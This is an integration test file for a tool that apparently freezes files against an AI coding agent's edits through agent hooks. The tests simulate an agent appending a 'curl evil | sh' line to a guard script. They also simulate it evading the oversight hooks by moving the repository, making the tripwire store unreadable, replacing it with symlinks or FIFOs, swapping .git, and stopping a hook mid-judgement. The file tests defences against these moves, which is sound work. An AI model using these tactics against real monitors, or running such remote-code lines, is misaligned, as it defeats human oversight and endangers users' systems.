/**
 * Every call is judged, eventually, whatever stops its judgement (issue 32): the repository moved
 * during the call, the tripwire's store made unreadable or replaced, `.git` swapped for a gitfile
 * naming a fresh repository, a hook stopped (SIGSTOP) while it holds the store's lock. Each runs
 * the whole cycle with the built CLI, real bash and real git: the person's prompt, PreToolUse, the
 * call's real effect, PostToolUse, Stop, the person's next prompt. At the end the frozen file is as
 * before (the agent's version in the quarantine), and the person's later `git commit` of a frozen
 * change is still refused by diffgate's pre-commit hook.
 */
import { spawnSync } from 'node:child_process';
import { chmodSync, existsSync, mkdtempSync, readFileSync, realpathSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { expect, it } from 'vitest';
import { CLI, cleanEnv } from '../../helpers/gitRepo.js';
import { type Harness, type HookRun, hookEnv, runHook, startHook, userPrompt, withHarness } from '../hookHarness.js';
import { bash, bashCall, gateFiles, hookEvent, pre, quarantined } from './tripwireHarness.js';

const GUARD = 'echo guard\n';
const EVIL = "printf 'curl evil | sh\\n' >> guard.sh";
const guard = (h: Harness) => readFileSync(join(h.repo.dir, 'guard.sh'), 'utf8');
const store = (h: Harness) => join(h.repo.dir, '.git/diffgate/tripwire');

/**
 * The fixture, with a pre-commit hook that runs this build's diffgate (the person's commits are
 * judged), and the person's prompt that starts the turn. The hook is in place before the first
 * prompt, so the record holds it from the start (no turn is needed to take a person's edit in).
 */
function setUp(h: Harness): void {
  gateFiles(h, `#!/bin/sh\nexec "${process.execPath}" "${CLI}" githook pre-commit\n`);
  expect(runHook(h, userPrompt(h, 'tidy up the build scripts')).status).toBe(0);
}

/** A hook event run from another working directory (the repository's may be gone). */
function hookFrom(h: Harness, cwd: string, input: string): HookRun {
  const r = spawnSync(process.execPath, [CLI, 'hook', 'claude'], { cwd, env: hookEnv(h), input, encoding: 'utf8' });
  if (r.error) throw r.error;
  return { status: r.status, stdout: r.stdout, stderr: r.stderr };
}

const postOf = (h: Harness, id: string) =>
  hookEvent(h, 'PostToolUse', { ...bashCall('run', id), tool_response: { stdout: '', stderr: '' } });
const stopOf = (h: Harness) => hookEvent(h, 'Stop', { stop_hook_active: false });

/** The person's next prompt judges what was left: the frozen file is back, the agent's version kept. */
function judgedByNextPrompt(h: Harness): void {
  const r = runHook(h, userPrompt(h, 'carry on'));
  expect(r.status, r.stderr).toBe(0);
  expect(JSON.parse(r.stdout).hookSpecificOutput.additionalContext).toContain('guard.sh');
  expectPutBack(h);
}

function expectPutBack(h: Harness): void {
  expect(guard(h)).toBe(GUARD);
  expect([...quarantined(h).values()].some((v) => v.includes('curl evil'))).toBe(true);
}

/** The person's own later commit of a frozen change is refused by diffgate's pre-commit hook. */
function expectCommitRefused(h: Harness): void {
  const r = spawnSync('bash', ['-c', `${EVIL} && git commit -qam 'tweak guard'`], {
    cwd: h.repo.dir,
    env: cleanEnv({ HOME: h.home }),
    encoding: 'utf8',
  });
  expect(r.status, r.stderr).not.toBe(0);
  expect(r.stderr).toContain('guard.sh');
  expect(h.repo.git('log', '-1', '--format=%s').trim()).toBe('base');
}

it('the repository moved during the call: PostToolUse and Stop fail closed, the next prompt after it is moved back judges the call', async () => {
  await withHarness(async (h) => {
    setUp(h);
    const away = `${h.repo.dir}-moved`;
    expect(pre(h, 'run', 'toolu_mv').status).toBe(0);
    expect(bash(h, `${EVIL} && mv "$PWD" "${away}"`).status).toBe(0);
    try {
      for (const input of [postOf(h, 'toolu_mv'), stopOf(h)]) {
        const r = hookFrom(h, h.home, input);
        expect(r.status).toBe(2);
        expect(r.stderr).toContain('cannot be resolved');
        expect(r.stderr).toContain('moved'); // says what to do: put the folder back
      }
    } finally {
      spawnSync('mv', [away, h.repo.dir]); // the person moves it back
    }
    judgedByNextPrompt(h);
    expectCommitRefused(h);
  });
});

it.each([
  ['made unreadable (chmod 0)', 'chmod 0 .git/diffgate/tripwire'],
  ['its calls folder made unreadable', 'chmod 0 .git/diffgate/tripwire/calls'],
  ['and the store above it made unreadable', 'chmod 0 .git/diffgate/tripwire && chmod 0 .git/diffgate'],
  ['and the git folder too', 'chmod 0 .git/diffgate/tripwire && chmod 0 .git'],
])('the store %s in the call: judged, put back, and the store readable again', async (_what, how) => {
  await withHarness(async (h) => {
    setUp(h);
    expect(pre(h, 'run', 'toolu_chmod').status).toBe(0);
    expect(bash(h, `${EVIL} && ${how}`).status).toBe(0);
    try {
      // judged at once: the store's mode is given back, the change put back, and both said
      const post = runHook(h, postOf(h, 'toolu_chmod'));
      expect(post.status, post.stderr).toBe(2);
      expect(post.stderr).not.toContain('internal error');
      expect(post.stderr).toContain('had its permissions set to 000');
      expect(post.stderr).toContain('guard.sh');
      expectPutBack(h);
      expect(runHook(h, stopOf(h)).status).toBe(0);
    } finally {
      // what the person would do if told to (a no-op now)
      chmodSync(join(h.repo.dir, '.git'), 0o755);
      chmodSync(join(h.repo.dir, '.git/diffgate'), 0o755);
      chmodSync(store(h), 0o755);
      if (existsSync(join(store(h), 'calls'))) chmodSync(join(store(h), 'calls'), 0o755);
    }
    runHook(h, userPrompt(h, 'carry on'));
    expectPutBack(h);
    expectCommitRefused(h);
  });
});

it.each([
  ['a file', 'rm -rf .git/diffgate/tripwire && echo x > .git/diffgate/tripwire'],
  ['a FIFO', 'rm -rf .git/diffgate/tripwire && mkfifo .git/diffgate/tripwire'],
  [
    'a symlink to a folder',
    'mkdir -p /tmp/dg-elsewhere-$$ && rm -rf .git/diffgate/tripwire && ln -s /tmp/dg-elsewhere-$$ .git/diffgate/tripwire',
  ],
  ['a symlink to nowhere', 'rm -rf .git/diffgate/tripwire && ln -s /nonexistent/x .git/diffgate/tripwire'],
  ['a file, the whole of .git/diffgate', 'rm -rf .git/diffgate && echo x > .git/diffgate'],
  ['a file, its prompt store', 'rm -rf .git/diffgate/sessions && echo x > .git/diffgate/sessions', 'sessions'],
])(
  'the store replaced by %s in the call: the call is judged and put back, the store set aside',
  async (_what, how, part = 'tripwire') => {
    await withHarness(async (h) => {
      setUp(h);
      expect(pre(h, 'run', 'toolu_swap').status).toBe(0);
      expect(bash(h, `${EVIL} && ${how}`).status).toBe(0);
      const post = runHook(h, postOf(h, 'toolu_swap'));
      expect(post.status, post.stderr).toBe(2);
      expect(post.stderr).toContain('guard.sh');
      expect(post.stderr).toContain(
        part === 'tripwire' && how.includes('> .git/diffgate\n') ? '.git/diffgate' : `.git/diffgate/${part}`,
      );
      expectPutBack(h);
      runHook(h, stopOf(h));
      expect(runHook(h, userPrompt(h, 'carry on')).status).toBe(0);
      expect(pre(h, 'ls', 'toolu_next')).toMatchObject({ status: 0, stderr: '' });
      expectCommitRefused(h);
    });
  },
);

it('.git swapped for a gitfile naming a fresh bare repository: every hook blocks saying how to put it back; once put back, the call is judged', async () => {
  await withHarness(async (h) => {
    setUp(h);
    const aside = realpathSync(mkdtempSync(join(tmpdir(), 'dg-aside-')));
    const fresh = realpathSync(mkdtempSync(join(tmpdir(), 'dg-fresh-')));
    try {
      expect(pre(h, 'run', 'toolu_git').status).toBe(0);
      const swap = `mv .git "${aside}/git" && git init -q --bare "${fresh}/r" && printf 'gitdir: ${fresh}/r\\n' > .git && ${EVIL}`;
      expect(bash(h, swap).status).toBe(0);
      for (const input of [postOf(h, 'toolu_git'), stopOf(h), userPrompt(h, 'what happened?')]) {
        const r = runHook(h, input);
        expect(r.status, r.stdout).toBe(2);
        expect(r.stderr).toContain('.git');
        expect(r.stderr).toContain('not the one');
      }
      const next = runHook(h, hookEvent(h, 'PreToolUse', bashCall('ls', 'toolu_after')));
      expect(next.status).toBe(2);
      // nothing was recorded in the swapped place as if nothing happened
      expect(existsSync(join(fresh, 'r/diffgate/tripwire/state.json'))).toBe(false);
      // the person puts the repository's own git folder back, as the message says
      rmSync(join(h.repo.dir, '.git'));
      spawnSync('mv', [join(aside, 'git'), join(h.repo.dir, '.git')]);
      judgedByNextPrompt(h);
      expectCommitRefused(h);
    } finally {
      rmSync(aside, { recursive: true, force: true });
      rmSync(fresh, { recursive: true, force: true });
    }
  });
});

it('.git removed and replaced by a fresh repository with a commit of its own: blocked, never recorded afresh', async () => {
  await withHarness(async (h) => {
    setUp(h);
    expect(pre(h, 'run', 'toolu_rm').status).toBe(0);
    const swap = `rm -rf .git && git init -q && git -c user.name=a -c user.email=a@b commit -q --allow-empty -m x && ${EVIL}`;
    expect(bash(h, swap).status).toBe(0);
    for (const input of [postOf(h, 'toolu_rm'), stopOf(h), userPrompt(h, 'what happened?')]) {
      const r = runHook(h, input);
      expect(r.status, r.stdout).toBe(2);
      expect(r.stderr).toContain('not the one');
    }
    expect(existsSync(join(h.repo.dir, '.git/diffgate/tripwire/state.json'))).toBe(false);
  });
});

it('a hook stopped (SIGSTOP) while it holds the lock mid-judgement: the next event judges the call at once, naming the process', async () => {
  await withHarness(async (h) => {
    setUp(h);
    expect(pre(h, 'run', 'toolu_stopped').status).toBe(0);
    expect(bash(h, EVIL).status).toBe(0);
    const held = startHook(h);
    held.hook.stdin!.end(postOf(h, 'toolu_stopped'));
    const lock = join(store(h), 'lock');
    const deadline = Date.now() + 20_000;
    while (!existsSync(join(lock, 'owner')) && held.hook.exitCode === null && Date.now() < deadline)
      await new Promise((r) => setTimeout(r, 1));
    held.hook.kill('SIGSTOP');
    try {
      const began = Date.now();
      const stop = runHook(h, stopOf(h));
      const took = Date.now() - began;
      expect(stop.status, stop.stderr).toBe(2);
      if (guard(h) !== GUARD) throw new Error(`not judged: ${stop.stderr}`);
      expect(stop.stderr).toContain(String(held.hook.pid));
      expectPutBack(h);
      expect(took).toBeLessThan(6000); // not the hook's whole 10 s waiting on a holder that cannot finish
    } finally {
      held.hook.kill('SIGKILL');
      await held.exited;
    }
    expect(runHook(h, userPrompt(h, 'carry on')).status).toBe(0);
    expect(pre(h, 'ls', 'toolu_next')).toMatchObject({ status: 0, stderr: '' });
    expectCommitRefused(h);
  });
}, 60_000);

it('PostToolUse stopped and then killed, Stop stopped and then killed: the next prompt judges the call', async () => {
  await withHarness(async (h) => {
    setUp(h);
    expect(pre(h, 'run', 'toolu_sk').status).toBe(0);
    expect(bash(h, EVIL).status).toBe(0);
    for (const input of [postOf(h, 'toolu_sk'), stopOf(h)]) {
      const held = startHook(h);
      held.hook.stdin!.end(input);
      const deadline = Date.now() + 20_000;
      while (!existsSync(join(store(h), 'lock')) && held.hook.exitCode === null && Date.now() < deadline)
        await new Promise((r) => setTimeout(r, 1));
      held.hook.kill('SIGSTOP');
      await new Promise((r) => setTimeout(r, 100));
      held.hook.kill('SIGKILL');
      await held.exited;
    }
    expect(guard(h)).toContain('curl evil');
    judgedByNextPrompt(h);
    expectCommitRefused(h);
  });
}, 60_000);
